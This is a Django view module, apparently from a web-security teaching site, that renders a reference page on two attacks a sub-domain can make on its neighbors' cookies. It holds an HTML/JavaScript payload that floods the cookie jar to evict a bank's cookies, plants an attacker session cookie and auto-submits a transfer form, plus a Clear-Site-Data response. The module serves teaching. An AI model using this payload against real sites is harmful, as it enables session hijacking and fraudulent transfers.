"""The cookie jar: two attacks that reach all labs at once, and so are explained and not served."""

from __future__ import annotations

from django.http import HttpRequest, HttpResponse
from django.shortcuts import render
from django.views.decorators.http import require_safe

from victim_site.teaching.rendering import as_code

# How many cookies a browser keeps for a registrable domain. Both browsers keep as many, which
# `e2e/test_cookie_jar.py` measures.
LIMIT = 180
EVICTED = f"""<!doctype html>
<form method="post" action="https://bank.example/transfer">
  <input type="hidden" name="to" value="mallory">
</form>
<script>
  // On community.bank.example: more cookies than the browser keeps for bank.example.
  for (let n = 0; n < {LIMIT}; n++) document.cookie = `filler${{n}}=x; Secure`;
  // The bank's own are gone. One of the attacker's takes their place.
  document.cookie = "session=…; Secure; Domain=bank.example";
  document.forms[0].submit();
</script>
"""
CLEARS = """HTTP/1.1 200 OK
Content-Type: image/gif
Clear-Site-Data: "cookies"
"""


@require_safe
def show(request: HttpRequest) -> HttpResponse:
    """What a sub-domain can do to the cookies of all of its neighbors."""
    context = {
        "limit": LIMIT,
        "evicted": as_code(EVICTED, "html"),
        "clears": as_code(CLEARS, "http"),
    }
    return render(request, "reference/cookie_jar.html", context)
